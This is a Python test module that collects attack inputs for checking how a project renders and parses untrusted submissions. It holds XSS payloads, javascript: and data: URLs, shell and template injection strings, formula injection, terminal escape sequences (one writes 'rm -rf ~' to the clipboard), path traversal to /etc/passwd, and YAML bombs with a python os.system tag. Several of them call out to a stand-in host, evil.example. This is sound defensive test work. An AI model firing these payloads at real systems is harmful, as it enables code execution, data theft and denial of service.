"""The attack corpus: what a submitter may try, by kind. Written for this project; each line is one idea, not one page of a list.

Text vectors are for every place where a text can show (`places.py` puts them there). Files, links and YAML documents
have their own lists below. A vector that would run calls `pwn()`, which exists only as a trap (`trap.js`), or asks for
something at `evil.example`, which does not exist.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Iterable
from dataclasses import dataclass

IMG = "<img src=x onerror=pwn(1)>"


@dataclass(frozen=True, slots=True)
class Vector:
    """One text. `id` is unique and harmless, so it may stand in a file name or a test's name."""

    id: str
    kind: str
    text: str

    @property
    def as_name(self) -> str | None:
        """The text as one file name, where the file system allows it. (Names with a leading dot are not jobs.)"""
        raw = self.text.encode("utf-8", "surrogateescape")
        bad = (
            b"/" in raw or b"\0" in raw or len(raw) > 255 or self.text.startswith(".") or _has_lone(self.text)
        )
        return None if bad or not self.text else self.text

    @property
    def as_path(self) -> str | None:
        """The text as a relative path: a closing tag is a fine pair of folder and file."""
        parts = self.text.split("/")
        raw = [part.encode("utf-8", "surrogateescape") for part in parts if not _has_lone(part)]
        fine = len(raw) == len(parts) and all(
            part not in (b"", b".", b"..") and b"\0" not in part and len(part) <= 240 for part in raw
        )
        return self.text if fine else None


def _has_lone(text: str) -> bool:
    """Surrogates that stand for no byte (PEP 383 has U+DC80 to U+DCFF for bytes)."""
    return any("\ud800" <= c <= "\udc7f" or "\udd00" <= c <= "\udfff" for c in text)


def _made(kind: str, texts: Iterable[str], *, bare: bool = False) -> list[Vector]:
    made = []
    for n, text in enumerate(texts):
        name = f"{kind}{n:02d}"
        # A head and a tail of its own: what hides the rest of a line, or the line, must not hide these.
        made.append(Vector(name, kind, text if bare else f"{name}[{text}]{name}"))
    return made


# -- markup ----------------------------------------------------------------------------------------------------------------

HTML = _made(
    "html",
    [
        # elements that run something by themselves
        "<script>pwn(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<script type=module>import '//evil.example/x.js'</script>",
        IMG,
        "<img/src=x/onerror=pwn(1)>",
        "<img src=x onerror=\tpwn(1) >",
        "<img src=x \fonerror\n=\npwn`1`>",
        "<IMG SRC=x ONERROR='pwn&#40;1&#41;'>",
        "<img src=x onerror=pwn(1)",
        "<<img src=x onerror=pwn(1)//<",
        "<svg onload=pwn(1)>",
        "<svg><script>pwn&#40;1)</script></svg>",
        "<svg><animate onbegin=pwn(1) attributeName=x dur=1s>",
        "<svg><set attributeName=href to=javascript:pwn(1)>",
        "<svg><a xlink:href=javascript:pwn(1)><text y=9>go</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x><script>pwn(1)</script></svg>#x'>",
        "<svg><foreignObject><iframe onload=pwn(1)></foreignObject></svg>",
        "<svg><image href=https://evil.example/x.png>",
        "<math href='javascript:pwn(1)'><mtext>go</mtext></math>",
        "<math><maction actiontype='statusline#x' xlink:href='javascript:pwn(1)'>go",
        "<video><source onerror=pwn(1)></video>",
        "<audio src=x onerror=pwn(1)>",
        "<video poster=https://evil.example/x.png>",
        "<input autofocus onfocus=pwn(1)>",
        "<textarea autofocus onfocus=pwn(1)>",
        "<select autofocus onfocus=pwn(1)>",
        "<details open ontoggle=pwn(1)>",
        "<div popover id=p onbeforetoggle=pwn(1)></div><button popovertarget=p autofocus>",
        "<marquee onstart=pwn(1)>",
        "<body onload=pwn(1) onpageshow=pwn(1)>",
        "<style onload=pwn(1)></style>",
        "<x contenteditable autofocus tabindex=1 onfocus=pwn(1)>",
        "<x style='animation:a' onanimationstart=pwn(1)></x><style>@keyframes a{}</style>",
        # documents in the document
        "<iframe srcdoc='<script>parent.pwn(1)</script>'></iframe>",
        "<iframe src=javascript:parent.pwn(1)></iframe>",
        "<iframe src='data:text/html,<script>pwn(1)</script>'>",
        "<object data='data:text/html,<script>parent.pwn(1)</script>'></object>",
        "<embed src=javascript:pwn(1)>",
        "<portal src=https://evil.example>",
        # elements that fetch, send or go somewhere
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<link rel=prefetch href=https://evil.example/x>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<form action=https://evil.example/><button autofocus>go</button></form>",
        "<a href=javascript:pwn(1)>go</a>",
        "<a href='jav&#x09;ascript:pwn(1)'>go</a>",
        "<a href=\x01javascript:pwn(1)>go</a>",
        "<a href=https://evil.example/ ping=https://evil.example/ target=_blank>go</a>",
        "<area href=javascript:pwn(1) shape=default>",
        # out of what it may stand in
        f'">{IMG}',
        f"'>{IMG}",
        '" autofocus onfocus="pwn(1)" x="',
        "' autofocus onfocus='pwn(1)' x='",
        "` onmouseover=pwn(1) x=`",
        f"</script>{IMG}",
        f"</textarea>{IMG}",
        f"</title></style></noscript></template></select>{IMG}",
        f"--><!-->{IMG}<!--",
        f"]]>{IMG}<![CDATA[",
        f"</td></tr></table>{IMG}",
        f"</bdi></span></code></pre>{IMG}",
        # what a second parser makes of it
        "<noscript><p title='</noscript><img src=x onerror=pwn(1)>'>",
        "<svg></p><style><a id='</style><img src=x onerror=pwn(1)>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwn(1)&gt;'>",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=pwn(1) src>'>",
        "<template><img src=x onerror=pwn(1)></template>",
        "<div><template shadowrootmode=open><img src=x onerror=pwn(1)></template></div>",
        "<xmp><p title='</xmp><img src=x onerror=pwn(1)>'>",
        # entities and their likes
        "&lt;img src=x onerror=pwn(1)&gt;",
        "&#60;img src=x onerror=pwn(1)&#62;",
        "&#x3Cimg src=x onerror=pwn(1)&#x3E",
        "&amp;lt;script&amp;gt;pwn(1)",
        r"\u003cimg src=x onerror=pwn(1)\u003e",
        r"\x3cimg src=x onerror=pwn(1)\x3e",
        "%3Cimg%20src=x%20onerror=pwn(1)%3E",
        "＜img src=x onerror=pwn(1)＞",
        "+ADw-img src=x onerror=pwn(1)+AD4-",
    ],
)

ADDRESSES = _made(
    "url",
    [
        "javascript:pwn(1)",
        "JaVaScRiPt:pwn(1)//",
        "java\tscript:pwn(1)",
        "vbscript:pwn(1)",
        "data:text/html,<script>pwn(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=",
        "https://evil.example/x.png",
        "//evil.example/x",
        "file:///etc/passwd",
    ],
    bare=True,
)

CSS = _made(
    "css",
    [
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>*{background:url(//evil.example/x)}</style>",
        "</style><style>*{display:none}",
        "}*{display:none!important}",
        "red;background:url(https://evil.example/x)",
        "<div style=position:fixed;inset:0;background:red>",
        "expression(pwn(1))",
        "-moz-binding:url(//evil.example/x#y)",
        'x" class="sjw sjw-host" style="display:none',
        "/*",
        "var(--sjw-bad)",
    ],
)

MARKDOWN = _made(
    "md",
    [
        "[go](javascript:pwn(1))",
        "![x](https://evil.example/x.png)",
        "<https://evil.example/>",
        r"$$\href{javascript:pwn(1)}{go}$$",
        r"$\unicode{x3c}img src=x onerror=pwn(1)\unicode{x3e}$",
        r"\(\require{html}\style{background:url(//evil.example/x)}{x}\)",
        r"$$\def\x{\x\x}\x$$",
        "```\n# not a heading\n```",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        ":::{raw} html\n<img src=x onerror=pwn(1)>\n:::",
        "[go]: javascript:pwn(1)",
    ],
)

TEMPLATES = _made(
    "tpl",
    [
        "{{.UserEmail}}",
        "{{.Year}}",
        "{{constructor.constructor('pwn(1)')()}}",
        "{% include 'x' %}",
        "${pwn(1)}",
        "#{pwn(1)}",
        "<%= pwn(1) %>",
        "{0.__class__}{name}",
        "%s%s%n%(name)s",
        "$(touch pwned)",
        "`touch pwned`",
        "; touch pwned; #",
        "&& touch pwned ||",
    ],
)

BARE = _made(
    "bare",
    [
        "__proto__",
        "constructor",
        "hasOwnProperty",
        "toString",
        "null",
        "undefined",
        "NaN",
        "true",
        "-rf",
        "--help",
        "~",
        "*",
        "**",
        "[ab]",
        "?",
        "{a,b}",
        "\\",
        " ",
        "CON",
        '=HYPERLINK("https://evil.example/","go")',
        "@SUM(1+9)*cmd|' /C calc'!A0",
        '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"pwn(1)"}}}',
        "0",
        "inbox",
        "syft.pub",
        "run.sh",
    ],
    bare=True,
)

# -- terminals -------------------------------------------------------------------------------------------------------------

# Colours are obeyed in logs. Everything else here must change nothing but its own place.
TERMINAL = _made(
    "term",
    [
        "\x1b[31mred\x1b[0m",
        "\x1b]8;;https://evil.example/\x1b\\hospital.example\x1b]8;;\x1b\\",
        "\x1b]8;id=1;javascript:pwn(1)\x07go\x1b]8;;\x07",
        "\x1b]52;c;cm0gLXJmIH4K\x07",
        "\x1b]0;approved by alice\x07",
        "\x1b]2;title\x1b\\",
        "\x1b]1337;File=inline=1:AAAA\x07",
        "\x1b]9;4;1;50\x07",
        "\x1b[2J\x1b[H",
        "\x1b[1A\x1b[3A",
        "\x1b[10;10H\x1b[5B\x1b[9D",
        "\x1b[?1049h\x1b[?25l",
        "\x1b[6n\x1b[c",
        "\x1b[8mconcealed\x1b[28m",
        "\x1b[30;40msame colours\x1b[0m",
        "\x1b[38;5;16;48;5;16msame colours\x1b[0m",
        "\x1b[38;2;255;255;255;48;2;255;255;255msame colours\x1b[0m",
        "\x1b[5m\x1b[7minverse\x1b[27m\x1b[25m",
        "\x1bP1$r0m\x1b\\",
        "\x1b_application\x1b\\",
        "\x1b^privacy\x1b\\",
        "\x1bXstart\x1b\\",
        "\x1bc\x1b(0\x1b)B\x1b#8",
        "\x9b31mc1 csi\x9b0m",
        "\x9d0;c1 osc\x9c",
        "\x90c1 dcs\x9c",
        "\x1b[",
        "\x1b]8;;https://evil.example/ unfinished",
        "\x1b[" + "1;" * 60 + "1m",
        "\x07\x07",
        "a\x0bb\x0cc",
        "\x0e\x0f\x05\x7f",
    ],
)

# These overwrite what stands before them in their own line, as a progress bar does.
OVERWRITES = _made(
    "over", ["safe\rEVIL", "safe\b\b\b\bEVIL", "safe\x1b[2K\rEVIL", "\x1b[1A\x1b[2K", "safe\x1b[1GEVIL"]
)

# -- characters ------------------------------------------------------------------------------------------------------------

CHARACTERS = _made(
    "char",
    [
        "main\u202eyp.exe\u202c.py",
        "\u202dleft\u202c",
        "\u202aembed\u202bembed\u202c",
        "\u2066isolate\u2067isolate\u2068isolate\u2069",
        "\u061c\u200e\u200f",
        "pay\u200bpal",
        "zero\u200c\u200d\u2060\ufeffwidth",
        "".join(chr(0xE0000 + ord(c)) for c in "tag: approve"),
        "e" + "\u0301\u0489\u0337" * 12,
        "\u3164\u115f\u1160\uffa0filler",
        "\u00ad\u034f\u180e",
        "\u2800braille",
        "a\u00a0b\u2003c\u3000d",
        "\ue000private\U000f0000",
        "\ufffe\uffff\U0001ffff",
        "variation\ufe0f\U000e0100",
        "раураl",  # Cyrillic letters that look Latin
        "ⓑ𝐨𝐛 ﬁle",
        "İıſK",
        "👩‍⚕️ 🏳️‍🌈",
        "\u0600\u06dd\u070f",
        "\ufff9a\ufffab\ufffb",
        "ﷺ" * 4,
        "日本語データ",
    ],
)

LINES = _made(
    "line",
    [
        "x\n0  Data Analysis  ✅ approved  bob@uni.example",
        "x\r\n0  Data Analysis  ✅ approved",
        "x\u2028y\u2029z",
        "x\x85y",
        "x\x1cy\x1dz\x1e",
        "\n\n\n",
        "a\tb",
        "x\nTraceback (most recent call last):",
    ],
)

BYTES = _made(
    "byte",
    [
        b"bad\xff\xfename".decode("utf-8", "surrogateescape"),
        b"\xc3(".decode("utf-8", "surrogateescape"),
        b"\xed\xa0\x80 surrogate".decode("utf-8", "surrogateescape"),
        b"\xf0\x9f\x92".decode("utf-8", "surrogateescape"),
        b"\xc0\xafetc\xc0\xafpasswd".decode("utf-8", "surrogateescape"),
        b"caf\xe9".decode("utf-8", "surrogateescape"),
    ],
)

LONG = _made("long", ["a" * 200, "<" * 200, "\u202e" * 60, "\x1b[31m" * 40, "👩" * 50, "&" * 180])

NUL = _made("nul", ["a\0b", "\0" * 5])

TEXTS: tuple[Vector, ...] = (
    *HTML,
    *ADDRESSES,
    *CSS,
    *MARKDOWN,
    *TEMPLATES,
    *BARE,
    *TERMINAL,
    *OVERWRITES,
    *CHARACTERS,
    *LINES,
    *BYTES,
    *LONG,
    *NUL,
)
"""Every text vector."""

HUGE_LINE = "x" * 1_000_000 + IMG
"""For contents and logs only: nothing else takes a megabyte."""

BENIGN: tuple[Vector, ...] = (
    *(Vector(f"plain{n:02d}", "plain", f"plain{n:02d} text {n}") for n in range(20)),
    Vector("binary", "plain", "a\0b"),  # a file that is no text is shown by its bytes
)
"""The same walk with these says which elements and attributes the views are made of."""


def is_hidden(character: str) -> bool:
    """Whether a character draws nothing, or changes how others are drawn: it must be shown as a mark, or not at all.

    An oracle of its own, not the package's function.
    """
    code = ord(character)
    if unicodedata.category(character) in ("Cc", "Cf", "Cs", "Zl", "Zp"):
        return True
    ranges = ((0xE0000, 0xE0FFF), (0xFE00, 0xFE0F), (0x115F, 0x1160), (0x17B4, 0x17B5), (0x180B, 0x180F))
    return code in (0x034F, 0x3164, 0xFFA0, 0x2800) or any(low <= code <= high for low, high in ranges)


# -- names and paths -------------------------------------------------------------------------------------------------------

GLOB_NAMES = (
    "*",
    "**",
    "?",
    "[ab]",
    "[!a]",
    "{a,b}",
    "run[1]",
    "{{.UserEmail}}",
    "{{.Year}}",
    "{{.UserHash}}",
    "a*",
    "\\*",
    "!x",
    "#x",
    "outputs",
    "syft.pub",
    "x'\"x",
    "a: b",
    "- a",
    "&a *a",
    "%TAG",
    " lead",
    "trail ",
)
"""Names that mean more than themselves in permission patterns, or in the YAML that the patterns stand in."""

PATHS = (
    "../secret.txt",
    "../../secret.txt",
    "../../../../../../../../etc/passwd",
    "..",
    ".",
    "",
    "/",
    "/etc/passwd",
    "//etc/passwd",
    "./main.py",
    "pkg/../main.py",
    "pkg/../../secret.txt",
    "main.py/",
    "main.py/..",
    "main.py\0.txt",
    "..\\..\\secret.txt",
    "%2e%2e/secret.txt",
    "..;/secret.txt",
    "\u2025/secret.txt",
    "．．/secret.txt",
    "C:\\secret.txt",
    "~/secret.txt",
    "file:///etc/passwd",
    "\ufffd/secret.txt",
    "\ufffd\ufffd",
    "x" * 5000,
    "a/" * 2000,
    "\udcff",
    "\ud800",
)
"""Paths that a page may ask for. None of them is a file of the job."""

# -- YAML ------------------------------------------------------------------------------------------------------------------


def _merge_bomb(levels: int = 24) -> bytes:
    lines = ["a0: &a0 {x: 1}"]
    lines += [f"a{n}: &a{n} {{<<: [*a{n - 1}, *a{n - 1}]}}" for n in range(1, levels)]
    return "\n".join(lines).encode()


def _alias_bomb(levels: int = 30) -> bytes:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, levels)]
    return "\n".join(lines).encode()


YAML_BOMBS: dict[str, bytes] = {
    "merge keys": _merge_bomb(),
    "aliases": _alias_bomb(),
    "base-60": b"submitted_at: " + b"9:" * 20_000 + b"9\n",
    "long integer": b"submitted_at: " + b"9" * 60_000 + b"\n",
    "float": b"submitted_at: 1e999999999\n",
    "deep list": b"a: " + b"[" * 5_000 + b"]" * 5_000,
    "deep mapping": b"{a: " * 5_000 + b"}" * 5_000,
    "deep blocks": b"\n".join(b" " * n + b"a:" for n in range(2_000)),
    "half": b"a: " + b"[" * 30_000,
    "huge": b"a: " + b"x" * 5_000_000,
    "many keys": b"\n".join(b"k%d: v" % n for n in range(8_000)),
    "many doubled keys": b"a: 1\n" * 8_000,
    "python tag": b"!!python/object/apply:os.system ['touch pwned']\n",
    "python name": b"a: !!python/name:os.system\n",
    "two documents": b"a: 1\n---\nb: 2\n",
    "directive": b"%YAML 1.1\n%TAG ! tag:evil.example,2000:\n---\na: !x 1\n",
    "binary": bytes(range(256)) * 16,
    "nul": b"name: a\0b\n",
    "utf-16": "name: a\n".encode("utf-16"),
    "utf-32": "name: a\n".encode("utf-32"),
    "bom": b"\xef\xbb\xbfname: a\n",
    "empty": b"",
    "spaces": b" " * 60_000,
    "comments": b"# x\n" * 15_000,
    "list": b"- a\n- b\n",
    "scalar": b"just text\n",
    "null": b"null\n",
    "null value": b"~\n",
    "self": b"&a [*a]\n",
    "self key": b"? &a {*a : x}\n: y\n",
    "list as key": b"? [a, b]\n: c\n",
    "proto": b"__proto__: {x: 1}\nconstructor: x\n",
    "wrong types": b"name: [a]\nsubmitted_at: {a: b}\ntype: [1]\nentry_point: {}\ndependencies: x\n",
    "nulls": b"name:\nsubmitted_at: null\ntype: ~\nentry_point:\ndependencies:\n",
    "surrogate": b'name: "\\ud800"\nsubmitted_at: "\\udfff"\n',
    "escapes": b'name: "\\x1b[31m\\u202e\\0\\n"\n',
    "no such character": b'name: "\\U00110000"\n',
    "folded": b"name: >\n" + b"  x\n" * 10_000,
    "quoted": b'name: "' + b"\\\n" * 20_000 + b'"\n',
    "many dependencies": b"dependencies: [" + b"a, " * 15_000 + b"a]\n",
    "times": b"submitted_at: 2099-12-31T23:59:60+99:99\n",
    "long time": b"submitted_at: '" + b"2026-03-02T10:30:00" * 50 + b"'\n",
}
"""Small YAML files that cost a careless reader much, or that are not what they should be."""
